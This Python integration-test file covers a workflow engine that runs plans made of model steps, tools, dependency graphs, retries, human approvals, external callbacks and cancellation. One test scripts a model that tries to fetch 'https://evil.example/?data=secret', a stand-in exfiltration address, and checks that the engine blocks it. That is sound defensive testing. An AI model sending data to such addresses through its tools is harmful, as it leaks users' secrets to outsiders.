"""Plans on a real engine and ledger: order, graphs, failures that are told or end the job, tools, waits, cancel."""

import asyncio
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from typing import Any
from uuid import UUID

import pytest
import pytest_asyncio
from pydantic_core import from_json

from domain.errors import JobError, VendorError
from domain.job import Failure, Status
from domain.keyring import Keyring
from domain.modes import modes
from domain.waiting import waitpoint_of
from engine.courier import Courier
from engine.history import done_steps
from engine.query import live_progress
from ledger.database import Database
from ledger.plans import Plans
from ledger.waitpoints import Waitpoints
from tests.conftest import own_namespace
from tests.replay.fakes import Research
from tests.support.databases import cloned
from tests.support.plan_parts import Gate, Post, ScriptedModel, ScriptedTool, outputs, plan_activities, plan_of
from tests.support.stack_parts import Parts, stack, steps_of, until
from workflows.catalog import ours

pytestmark = pytest.mark.asyncio(loop_scope="module")
READING = ("document_search", "fetch_page", "HUBSPOT_GET_CONTACTS")
TOOLS = ("http_request", *READING)
SOON = {"minTimeoutInMs": 1, "maxTimeoutInMs": 1}


class World:
    """The stack, and what answers in it."""

    def __init__(self, parts: Parts, model: ScriptedModel, tools: dict[str, ScriptedTool], post: Post) -> None:
        self.parts, self.model, self.tools, self.post = parts, model, tools, post
        self.plans, self.waitpoints = Plans(parts.database), Waitpoints(parts.database)

    async def run(self, *steps: dict[str, Any], **more: Any) -> UUID:
        options = {"retry": SOON}
        return await self.parts.submit("workflow", plan_of(*steps, **more), **options)

    async def waiting(self, job_id: UUID, step: str) -> None:
        """Until the audit says that this step waits for somebody."""

        async def told() -> bool:
            events = await self.parts.events.after(job_id)
            return any(event.type == "waiting" and event.data["name"] == step for event in events)

        await until(told)

    async def answer(self, job_id: UUID, step: str, output: Any) -> None:
        point = waitpoint_of(job_id, step)
        assert await self.waitpoints.resolve(point, "completed", output=output, by="somebody")
        await Courier(self.parts.client, self.waitpoints).turn()


@asynccontextmanager
async def opened(
    postgres_url: str, template: str, temporal_address: str, model: ScriptedModel
) -> AsyncGenerator[World]:
    tools = {
        name: ScriptedTool(name) for name in ("http_request", "document_search", "fetch_page", "HUBSPOT_GET_CONTACTS")
    }
    async with cloned(postgres_url, template) as url:
        database, engine = Database(url), await own_namespace(temporal_address)
        post = Post()
        activities = [*plan_activities(database, model, list(tools.values()), post), *Research().activities]
        async with stack(database, engine, activities, kinds=ours()) as parts, parts.working(), parts.dispatching():
            yield World(parts, model, tools, post)
        await database.close()


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def shared(postgres_url: str, template: str, temporal_address: str) -> AsyncGenerator[World]:
    async with opened(postgres_url, template, temporal_address, ScriptedModel()) as world:
        yield world


@pytest_asyncio.fixture(loop_scope="module")
async def world(shared: World) -> World:
    shared.model.script.clear()
    shared.model.asked.clear()
    for tool in shared.tools.values():
        tool.does = None
        tool.calls.clear()
    return shared


CALL = {"tool": "http_request", "input": {"url": "https://example.com/orders", "method": "POST"}}


async def test_steps_without_a_graph_run_in_order_and_see_what_came_before(world: World) -> None:
    job_id = await world.run({"name": "Fetch", **CALL}, {"name": "Analyze"}, {"name": "Report"}, modelId="gpt-4o")
    row = await world.parts.ended(job_id)
    assert row.status == Status.COMPLETED
    assert steps_of(row) == [("Fetch", "completed"), ("Analyze", "completed"), ("Report", "completed")]
    assert row.result["output"] == {"answer": "Report is done", "points": []}
    assert (row.result["answeredBy"], row.answered_by) == ("anthropic", "anthropic")
    [(_, model, first, _, _), (_, _, second, _, _)] = world.model.asked
    assert model == "gpt-4o"
    assert '<output step="Fetch">\n{"said":"Fetch"}\n</output>' in first
    assert "Analyze is done" in second
    assert await outputs(world.parts.database, job_id) == {
        "Fetch": {"said": "Fetch"},
        "Analyze": {"answer": "Analyze is done", "points": []},
        "Report": {"answer": "Report is done", "points": []},
    }


async def test_what_is_given_and_brought_never_reaches_the_engine(world: World) -> None:
    job_id = await world.run({"name": "Fetch", "description": "the secret plan", **CALL}, {"name": "Report"})
    await world.parts.ended(job_id)
    history = await world.parts.client.get_workflow_handle(str(job_id)).fetch_history()
    said = [event.SerializeToString() for event in history.events]
    assert not [text for text in said if b"secret plan" in text or b"example.com" in text or b"is done" in text]


async def test_a_graph_begins_what_waits_for_nothing_at_once(world: World) -> None:
    left, right = Gate(), Gate()

    async def both(asked: Any, use: Any) -> Any:
        return await (left if use.step == "Left" else right)(asked, use)

    world.tools["http_request"].does = both
    job_id = await world.run(
        {"name": "Together", "dependsOn": ["Left", "Right"]},
        {"name": "Left", **CALL},
        {"name": "Right", **CALL, "dependsOn": []},
    )
    await asyncio.wait_for(asyncio.gather(left.reached.wait(), right.reached.wait()), 30)
    assert dict(steps_of(await world.parts.row(job_id)))["Together"] == "pending"
    for gate in (right, left):
        gate.open()
    row = await world.parts.ended(job_id)
    assert {status for _, status in steps_of(row)} == {"completed"}


async def test_a_failure_is_told_to_the_steps_that_follow(world: World) -> None:
    async def refuses(asked: Any, use: Any) -> Any:
        raise JobError("no credentials here", code="not_configured")

    world.tools["HUBSPOT_GET_CONTACTS"].does = refuses
    job_id = await world.run({"name": "Fetch Data", "tool": "HUBSPOT_GET_CONTACTS"}, {"name": "Analyze"})
    row = await world.parts.ended(job_id)
    assert row.status == Status.COMPLETED
    assert steps_of(row) == [("Fetch Data", "failed"), ("Analyze", "completed")]
    assert row.result["failed"] == ["Fetch Data"]
    assert "failed: no credentials here (not_configured)" in world.model.asked[0][2]


async def test_the_failure_of_a_required_step_ends_the_job_and_what_runs_beside_it(world: World) -> None:
    gate = Gate()

    async def fails(asked: Any, use: Any) -> Any:
        if use.step == "Slow":
            return await gate(asked, use)
        await gate.reached.wait()
        raise JobError("nothing doing", code="refused")

    world.tools["http_request"].does = fails
    job_id = await world.run(
        {"name": "Slow", **CALL, "dependsOn": []},
        {"name": "Must", **CALL, "required": True, "dependsOn": []},
        {"name": "After", "dependsOn": ["Must"]},
    )
    row = await world.parts.ended(job_id)
    assert row.error is not None
    assert (row.status, row.error.code, row.error.step) == (Status.FAILED, "refused", "Must")
    assert steps_of(row) == [("Slow", "failed"), ("Must", "failed"), ("After", "skipped")]
    assert not world.model.asked


async def test_a_tool_is_tried_three_times_each_attempt_once(world: World) -> None:
    tool = world.tools["http_request"]

    async def flaky(asked: Any, use: Any) -> Any:
        if use.attempt < 3:
            raise VendorError("try again", code="http_503")
        return {"at": use.attempt}

    tool.does = flaky
    job_id = await world.run({"name": "Send", **CALL})
    row = await world.parts.ended(job_id)
    assert [(step.status, step.attempt) for step in row.steps] == [("completed", 3)]
    assert tool.calls == [("Send", 1), ("Send", 2), ("Send", 3)]
    calls = [event.data for event in await world.parts.events.after(job_id) if event.type == "call"]
    assert [(call["attempt"], call["status"]) for call in calls] == [(1, "failed"), (2, "failed"), (3, "done")]


async def test_a_model_uses_the_tools_of_its_mode_before_it_answers(world: World) -> None:
    search = world.tools["document_search"]
    attempts: list[int] = []

    async def flaky(asked: Any, use: Any) -> Any:
        attempts.append(use.attempt)
        if len(attempts) == 1:
            raise VendorError("try again", code="timeout")
        return {"results": ["Acme pays late"]}

    search.does = flaky
    world.model.script["Analyze"] = [
        [("document_search", {"q": "Acme"}), ("calculate", {"expression": "6*7"}), ("calculate", {"nonsense": 1})],
        [("calculate", {"expression": "1/0"})],
        "Acme owes 42.",
    ]
    job_id = await world.run({"name": "Analyze"})
    row = await world.parts.ended(job_id)
    assert steps_of(row) == [("Analyze", "completed")]
    assert row.result["output"] == {"answer": "Acme owes 42.", "points": []}
    assert attempts == [1, 2]
    _, second, third = world.model.asked
    offered = {offer.name for offer in second[4]}
    assert offered == {"calculate", *READING}, "none that changes the world"
    [exchange] = second[3]
    assert [use.tool for use in exchange.uses] == ["document_search", "calculate", "calculate"]
    assert exchange.said[:2] == ('{"results":["Acme pays late"]}', '{"value":42}')
    assert "invalid_input" in exchange.said[2]
    assert "bad_expression" in third[3][1].said[0]
    states = [event.data["status"] for event in await world.parts.events.after(job_id) if event.type == "step"]
    assert states == ["running", "running", "running", "completed"], "between its turns the step is never over"
    done = await done_steps(world.parts.client, await world.parts.client.get_workflow_handle(str(job_id)).describe())
    assert [step.activity_id for step in done] == ["Analyze"], "a ledger that is mended is told of its end alone"


async def test_a_mode_chooses_what_models_are_told_and_what_they_may_use(world: World) -> None:
    for mode, tools in (("Sales", {"calculate", *READING}), ("Research", {"calculate", *READING[:2]})):
        world.model.asked.clear()
        world.model.told.clear()
        row = await world.parts.ended(await world.run({"name": "Analyze"}, mode=mode))
        assert (row.status, row.result["mode"]) == (Status.COMPLETED, mode)
        [told], [(*_, offers)] = world.model.told, world.model.asked
        assert [one.name for one in modes().values() if one.instructions in told] == [mode]
        assert {offer.name for offer in offers} == tools


async def test_a_model_reads_no_page_at_an_address_of_its_own_making(world: World) -> None:
    reader = world.tools["fetch_page"]
    stolen, linked = "https://evil.example/?data=secret", "https://a.example/report"
    world.model.script["Analyze"] = [[("fetch_page", {"url": stolen}), ("fetch_page", {"url": linked})], "done"]
    job_id = await world.run({"name": "Analyze", "description": f"Read {linked}"})
    assert (await world.parts.ended(job_id)).status == Status.COMPLETED
    assert reader.calls == [("Analyze", 1)]
    [exchange] = world.model.asked[1][3]
    assert "not_given" in exchange.said[0]
    assert exchange.said[1] == '{"said":"Analyze"}'


async def test_a_model_that_never_answers_has_to_at_last(world: World) -> None:
    world.model.script["Analyze"] = [*[[("calculate", {"expression": "1+1"})]] * 7, "2"]
    row = await world.parts.ended(await world.run({"name": "Analyze"}))
    assert row.status == Status.COMPLETED
    assert [len(asked[4]) > 0 for asked in world.model.asked] == [True] * 7 + [False]


async def test_people_and_systems_outside_are_waited_for(world: World) -> None:
    job_id = await world.run(
        {"name": "Approve", "tool": "ask_person", "input": {"question": "May we?"}},
        {"name": "Elsewhere", "external": True},
        {"name": "Send", "tool": "http_request", "input": {"url": "https://example.com", "body": "{{Approve.note}}"}},
        {"name": "Report"},
    )
    await world.waiting(job_id, "Approve")
    row = await world.parts.row(job_id)
    assert dict(steps_of(row))["Elsewhere"] == "pending"
    live = await live_progress(world.parts.client, job_id)
    assert live["steps"][0]["status"] == "running"
    await world.answer(job_id, "Approve", {"note": "yes, gladly"})
    await world.waiting(job_id, "Elsewhere")
    point = waitpoint_of(job_id, "Elsewhere")
    assert await world.waitpoints.resolve(
        point, "failed", error=Failure(code="task_failed", message="it broke"), by="callback"
    )
    await Courier(world.parts.client, world.waitpoints).turn()
    row = await world.parts.ended(job_id)
    assert [status for _, status in steps_of(row)] == ["completed", "failed", "completed", "completed"]
    shown = {view["name"]: view for view in await world.plans.view(job_id)}
    assert shown["Approve"]["output"] == {"note": "yes, gladly"}
    assert shown["Send"]["input"]["body"] == "yes, gladly"
    assert "it broke" in world.model.asked[0][2]


async def test_who_is_asked_is_told_where_to_answer(world: World) -> None:
    job_id = await world.run(
        {"name": "Ask", "tool": "ask_person", "input": {"question": "May we?", "to": "ann@a.example"}, "dependsOn": []},
        {
            "name": "Ship",
            "tool": "external",
            "input": {"url": "https://b.example/", "body": {"parcel": 1}},
            "dependsOn": [],
        },
    )
    for step in ("Ask", "Ship"):
        await world.waiting(job_id, step)
    [(to, letter)] = world.post.letters
    assert to == "ann@a.example"
    assert f"/api/waitpoints/{waitpoint_of(job_id, 'Ask')}/complete?token=" in letter.text
    [(url, headers, body)] = world.post.requests
    assert (url, headers["longrun-callback-url"]) == ("https://b.example/", "http://127.0.0.1/api/workflow/update-step")
    assert headers["longrun-callback-secret"] == Keyring(["a key"]).execution_secret(job_id)
    assert from_json(body) == {"executionId": str(job_id), "stepId": "Ship", "input": {"parcel": 1}}
    history = await world.parts.client.get_workflow_handle(str(job_id)).fetch_history()
    assert not [event for event in history.events if b"ann@" in event.SerializeToString()]
    for step in ("Ask", "Ship"):
        await world.answer(job_id, step, "yes")
    assert (await world.parts.ended(job_id)).status == Status.COMPLETED


async def test_a_company_is_researched_by_a_job_of_its_own(world: World) -> None:
    job_id = await world.run(
        {"name": "Know", "tool": "company_research", "input": {"companyName": "Acme", "role": "CTO"}},
        {"name": "Report"},
    )
    row = await world.parts.ended(job_id)
    assert steps_of(row) == [("Know", "completed"), ("Report", "completed")]
    [child] = await world.parts.database.fetch("SELECT kind, status, result FROM jobs WHERE parent_id = $1", job_id)
    assert (child["kind"], child["status"]) == ("company-research", "completed")
    assert (await outputs(world.parts.database, job_id))["Know"] == child["result"]
    assert "Acme makes anvils." in world.model.asked[0][2]


async def test_a_cancel_ends_a_graph_at_once(world: World) -> None:
    gate = Gate()
    world.tools["http_request"].does = gate
    job_id = await world.run(
        {"name": "Work", **CALL, "dependsOn": []},
        {"name": "Ask", "tool": "ask_person", "input": {"question": "?"}, "dependsOn": []},
        {"name": "Then", "dependsOn": ["Work", "Ask"]},
    )
    await asyncio.wait_for(gate.reached.wait(), 30)
    await world.waiting(job_id, "Ask")
    assert await world.parts.jobs.cancel(job_id, reason=None, by="somebody")
    row = await world.parts.ended(job_id)
    assert row.status == Status.CANCELED
    assert steps_of(row) == [("Work", "failed"), ("Ask", "failed"), ("Then", "skipped")]
